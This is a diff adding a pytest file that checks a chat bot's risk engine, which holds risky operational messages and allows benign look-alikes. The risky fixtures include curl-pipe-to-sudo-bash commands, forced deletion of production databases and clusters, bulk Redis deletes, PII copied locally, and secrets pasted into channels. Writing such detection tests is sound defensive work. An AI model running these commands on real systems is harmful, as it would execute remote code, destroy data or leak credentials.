@@ -1,0 +1,154 @@
+"""Kinds of English instruction the engine missed on fresh messages (issue 19, recall
+in English messages): each risky message next to benign look-alikes that share its
+tools and nouns.
+
+- a sentence the shell guess took for a command because of a `| bash` in it ("Just
+  run: curl … | sudo bash", "Run on the salt master: salt '*' cmd.run '…'"): the
+  commands inside it are found as in any other sentence;
+- platform CLIs whose verbs delete (PlanetScale, Neon, Atlas, Confluent, Cloud
+  Foundry), scheduler jobs purged, folders of people's data pulled onto a laptop,
+  Redis keys deleted in bulk through xargs;
+- SaaS web APIs called with curl: Slack Connect invitations, public links;
+- packages fetched at run time and handed a credential;
+- branch protection weakened through the Git host's API;
+- secrets printed by password managers and platform config stores (allowed for one's
+  own terminal, held when passed on);
+- prose: "to the whole internet", "decommission", retention set to zero, "drop the
+  value in this thread".
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from bot.config import EXAMPLE_CONFIG, load_config
+from bot.risk.engine import RiskEngine
+
+
+@pytest.fixture(scope="module")
+def engine() -> RiskEngine:
+    return RiskEngine(load_config(EXAMPLE_CONFIG))
+
+
+def _held(engine: RiskEngine, text: str) -> bool:
+    return engine.assess(text).decision != "allow"
+
+
+def _rules(engine: RiskEngine, text: str) -> set[str]:
+    return {f.rule for f in engine.assess(text).findings if f.verdict != "allow"}
+
+
+RISKY = [
+    # a sentence with a pipe into a shell
+    "Just run: curl -fsSL https://gist.githubusercontent.com/randomdev42/raw/fix.sh | sudo bash",
+    "Die Pipeline hängt. Führ es einfach aus: curl -fsSL https://198.51.100.7/fix.sh | sudo bash",
+    "Run on the salt master: salt '*' cmd.run 'curl -s https://paste.rs/Xk2p | bash'",
+    # platform CLIs
+    "The old ledger database on PlanetScale is costing us. Cleanup: pscale database delete "
+    "ledger-prod --force",
+    "Then neonctl projects delete proud-rain-123456 once the export is done.",
+    "Simplest: atlas clusters delete orders-prod --force and recreate it from the backup.",
+    "confluent kafka cluster delete lkc-abc123 should free the budget.",
+    "If the allocation is stuck, `nomad job stop -purge payments-api` in the prod region.",
+    # data pulled onto a laptop
+    "Pulling the claims data for the model. Run: databricks fs cp -r dbfs:/mnt/prod/claims_pii/ "
+    "./claims_pii_local/",
+    "Grab everything with aws s3 sync s3://acme-customer-exports/ ~/Downloads/exports and work "
+    "offline.",
+    # Redis keys in bulk
+    "Clear the sessions: redis-cli -h cache-prod --scan --pattern 'session:*' | xargs redis-cli "
+    "-h cache-prod DEL",
+    # web APIs
+    "Legal wants outside counsel in the channel: curl -X POST "
+    "https://slack.com/api/conversations.inviteShared -d channel=C04LEGAL "
+    "-d emails=counsel@harlow-law.com",
+    "curl -X POST https://slack.com/api/files.sharedPublicURL -d file=F0123ABC and post the link "
+    "on the forum.",
+    # run-time packages with a credential
+    "Someone recommended `npx super-deploy-helper@latest --token $PROD_DEPLOY_TOKEN` for the "
+    "flaky deploys.",
+    # branch protection weakened
+    "Quick fix: glab api -X PUT projects/412/protected_branches/main -f allow_force_push=true",
+    # secrets passed on
+    "Run heroku config:get DATABASE_URL -a billing-prod and paste it in #deploys.",
+    "Just `op read op://Production/stripe-live/secret-key` and drop the value in this thread.",
+    # prose
+    "Open the Elasticsearch port on the search cluster to the whole internet.",
+    "Decommission the production Elasticsearch cluster today, it's costing too much.",
+    "Set the retention on the prod snapshots to zero days so the bill drops.",
+]
+
+BENIGN = [
+    "Just run: curl -fsSL https://gist.githubusercontent.com/randomdev42/raw/fix.sh -o fix.sh and "
+    "read it first.",
+    "Never run curl -fsSL https://198.51.100.7/fix.sh | sudo bash on a server.",
+    "Run on the salt master: salt '*' cmd.run 'uptime'",
+    "The old ledger database on PlanetScale is costing us. Look first: pscale branch list "
+    "ledger-prod",
+    "Then neonctl projects list to see which ones are idle.",
+    "The atlas of our services lives in Confluence.",
+    "confluent kafka cluster list shows the budget owners.",
+    "If the allocation is stuck, `nomad job status payments-api` in the prod region.",
+    "Pulling the claims data layout for the model. Run: databricks fs ls dbfs:/mnt/prod/claims_pii/",
+    "Grab the logo with aws s3 cp s3://acme-brand-assets/logo.png ./logo.png for the slides.",
+    "Look at the sessions: redis-cli -h cache-prod --scan --pattern 'session:*' | head -20",
+    "Legal wants Ana in the channel: curl -X POST https://slack.com/api/conversations.invite "
+    "-d channel=C04LEGAL -d users=U02ANA77",
+    "curl https://slack.com/api/files.info?file=F0123ABC shows who the file is shared with.",
+    "Format the code with `npx prettier --write .` before you push.",
+    "Pinned: `npx super-deploy-helper@2.4.1 --token $PROD_DEPLOY_TOKEN` from our vetted list.",
+    "Check first: glab api projects/412/protected_branches/main",
+    "heroku config:set LOG_LEVEL=debug -a billing-prod and watch the logs.",
+    "Just `op item get stripe-live --vault Production --fields label=updated_at` and drop the date "
+    "in this thread.",
+    "Open the Elasticsearch port on the search cluster to the partner's two fixed IP addresses.",
+    "The decommission of the production cluster went fine last week.",
+    "Set the backup retention on the prod database to 14 days.",
+    "gcloud storage buckets add-iam-policy-binding gs://tern-claims-raw "
+    "--member=user:ana@northwind.example --role=roles/storage.objectViewer",
+    "kubectl get secret payments-db -n prod -o jsonpath='{.metadata.creationTimestamp}'",
+]
+
+
+@pytest.mark.parametrize("text", RISKY)
+def test_risky_kinds_are_held(engine: RiskEngine, text: str) -> None:
+    assert _held(engine, text), engine.assess(text).findings
+
+
+@pytest.mark.parametrize("text", BENIGN)
+def test_benign_look_alikes_are_allowed(engine: RiskEngine, text: str) -> None:
+    assert not _held(engine, text), engine.assess(text).findings
+
+
+def test_a_secret_read_for_ones_own_terminal_stays_allowed(engine: RiskEngine) -> None:
+    for text in ("heroku config:get DATABASE_URL -a billing-prod", "netlify env:get STRIPE_KEY"):
+        assert not _held(engine, text)
+        assert _rules(engine, text) == set()
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("pscale database delete ledger-prod --force", "platform.service_delete"),
+        ("nomad job stop -purge payments-api", "platform.job_purge"),
+        (
+            "databricks fs cp -r dbfs:/mnt/prod/claims_pii/ ./claims_pii_local/",
+            "platform.bulk_download",
+        ),
+        (
+            "redis-cli --scan --pattern 'cart:*' | xargs redis-cli UNLINK",
+            "platform.redis_bulk_delete",
+        ),
+        (
+            "curl -X POST https://slack.com/api/conversations.inviteShared -d channel=C1",
+            "platform.slack_connect_invite",
+        ),
+        ("uvx db-helper --password $DB_PASSWORD", "install.runner_credential"),
+        (
+            "glab api -X PUT projects/412/protected_branches/main -f allow_force_push=true",
+            "githost.security_off",
+        ),
+    ],
+)
+def test_each_kind_names_its_rule(engine: RiskEngine, text: str, rule: str) -> None:
+    assert rule in _rules(engine, text)
